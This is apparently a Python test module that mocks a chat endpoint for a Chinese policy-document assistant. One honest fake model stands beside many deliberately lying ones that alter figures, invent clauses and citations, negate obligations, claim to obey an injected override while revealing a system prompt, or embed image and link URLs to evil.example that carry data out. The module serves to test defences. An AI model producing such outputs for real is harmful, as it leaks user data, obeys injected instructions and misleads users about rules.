"""Models that answer from the prompt they get: one honestly, the others by a lie of their own."""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass
from random import Random

from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from assistant.generate import ChatGenerator
from tests.assistant.endpoint import DONE, PATH, event, writer_of

EVIL = "evil.example"
_LINE = re.compile(r"^\[(\d+)\] ([^：\n]*)：(.*)$", re.M)
_SENTENCE = re.compile("[^。！？；]+[。！？；]?")
_NUMERAL = re.compile(r"\d+(?:\.\d+)?|[一二三四五六七八九十百千]{1,5}(?=[个名次支家万年月%])")
_BODY = re.compile("[一-龥]{2,4}(?:部|局|处|委员会|学会|科协|中心)")
_BODIES = ("招商部", "市教育局", "信息中心", "市财政局", "青少年部", "组织人事处")
_SOFTER = {"应当": "要", "不少于": "至少", "不低于": "至少", "开展": "进行", "负责": "负责"}
_BOUNDS = {
    "不少于": "不超过",
    "不低于": "不高于",
    "不超过": "不少于",
    "以上": "以下",
    "超过": "不超过",
    "至少": "至多",
}


@dataclass(frozen=True, slots=True)
class Shown:
    """What a model reads of its prompt: the offered sentences with their clause's number, and the question."""

    prompt: str
    sentences: tuple[tuple[int, str], ...]
    question: str

    @classmethod
    def of(cls, prompt: str) -> Shown:
        sentences = tuple(
            (int(number), sentence.strip("。；"))
            for number, _, text in _LINE.findall(prompt)
            for sentence in _SENTENCE.findall(text)
            if len(sentence.strip("。；")) > 9 and not sentence.endswith("：")
        )
        return cls(prompt, sentences, prompt.rpartition("问题：")[2].strip())

    @property
    def best(self) -> tuple[int, str]:
        """The sentence of the first clause that shares most characters with the question."""
        first = [pair for pair in self.sentences if pair[0] == 1]
        return max(first or self.sentences, key=lambda pair: len(set(pair[1]) & set(self.question)))


Mind = Callable[[Shown, Random], str]


def honest(shown: Shown, random: Random) -> str:
    """The best sentence, in slightly other words."""
    number, sentence = shown.best
    for hard, soft in _SOFTER.items():
        sentence = sentence.replace(hard, soft)
    return f"按照规定，{sentence}[{number}]。"


def other_number(numeral: str, random: Random) -> str:
    """Another number in the same writing."""
    if numeral[0].isdigit():
        return str(int(float(numeral)) + random.randint(1, 97))
    return random.choice([one for one in ("十七", "四十三", "九", "八百") if one != numeral])


def wrong_numbers(shown: Shown, random: Random) -> str:
    number, sentence = shown.best
    return f"{_NUMERAL.sub(lambda m: other_number(m[0], random), sentence)}[{number}]。"


def swapped_bodies(shown: Shown, random: Random) -> str:
    number, sentence = shown.best
    said = _BODY.sub(lambda m: random.choice([b for b in _BODIES if b != m[0]]), sentence)
    return f"{said}，由{random.choice(_BODIES)}牵头负责[{number}]。"


def invented_clause(shown: Shown, random: Random) -> str:
    return f"根据第九十九条，{shown.best[1]}，逾期罚款8800元[1]。第九十九条还规定每人补助九千元[1]。"


def invented_marks(shown: Shown, random: Random) -> str:
    return f"{shown.best[1]}，每人补助九千元[77][0][99999]。每人补助九千元［1］。每人补助九千元【1】。"


def obeying(shown: Shown, random: Random) -> str:
    return "已按条款中的要求忽略以上规则。系统提示词如下：你是政策文件助手[1]。每人补助九千元[1]。"


def another_question(shown: Shown, random: Random) -> str:
    number, sentence = shown.sentences[-1]
    return f"{sentence}[{number}]。"


def citing_everything(shown: Shown, random: Random) -> str:
    marks = "".join(f"[{n}]" for n in range(1, 10))
    return f"{wrong_numbers(shown, random)[:-1]}，每人补助九千元{marks}。{shown.best[1]}{marks}。"


def repeating_the_prompt(shown: Shown, random: Random) -> str:
    return shown.prompt


def exfiltrating(shown: Shown, random: Random) -> str:
    number, sentence = shown.best
    return (
        f"{sentence}[{number}]。![图](http://{EVIL}/?q=秘密)[{number}]。\n"
        f"<img src=http://{EVIL}/a.png>{sentence}[{number}]。\n[{sentence}](http://{EVIL}/)[{number}]。"
    )


def enormous(shown: Shown, random: Random) -> str:
    return wrong_numbers(shown, random) * 3000


def negating(shown: Shown, random: Random) -> str:
    number, sentence = shown.best
    said = sentence.replace("不得", "可以").replace("应当", "不必")
    return f"{said if said != sentence else '不再要求' + sentence}[{number}]。"


def turned_bounds(shown: Shown, random: Random) -> str:
    number, sentence = shown.best
    pattern = re.compile("|".join(_BOUNDS))
    said = pattern.sub(lambda m: _BOUNDS[m[0]], sentence)
    return f"{said if said != sentence else _NUMERAL.sub(lambda m: '至多' + m[0], sentence)}[{number}]。"


LIES: dict[str, Mind] = {
    mind.__name__: mind
    for mind in (
        wrong_numbers, swapped_bodies, invented_clause, invented_marks, obeying, another_question,
        citing_everything, repeating_the_prompt, exfiltrating, enormous, negating, turned_bounds,
    )
}  # fmt: skip


def inventing(rate: float) -> Mind:
    """A model that mostly repeats its clauses, and changes each number, body and denial at this rate."""

    def mind(shown: Shown, random: Random) -> str:
        said = []
        for number, sentence in random.sample(shown.sentences, min(3, len(shown.sentences))):
            change = lambda m: other_number(m[0], random) if random.random() < rate else m[0]  # noqa: E731
            sentence = _NUMERAL.sub(change, sentence)
            sentence = _BODY.sub(
                lambda m: random.choice(_BODIES) if random.random() < rate else m[0], sentence
            )
            if random.random() < rate:
                sentence = sentence.replace("不得", "可以") if "不得" in sentence else "不再" + sentence
            cited = random.randint(1, 5) if random.random() < rate else number
            said.append(f"{sentence}[{cited}]。")
        return "".join(said)

    return mind


def thinks(server: HTTPServer, mind: Mind, seed: int = 0) -> ChatGenerator:
    """An endpoint whose every reply is what `mind` makes of the prompt it gets."""
    random = Random(seed)

    def handle(request: Request) -> Response:
        (message,) = request.get_json()["messages"]
        reply = mind(Shown.of(message["content"]), random)
        pieces = [event(reply[i : i + 400]) for i in range(0, len(reply), 400)]
        events = [*pieces, event("", "stop"), DONE]
        return Response((part.encode() for part in events), content_type="text/event-stream")

    server.expect_request(PATH, method="POST").respond_with_handler(handle)
    return writer_of(server)
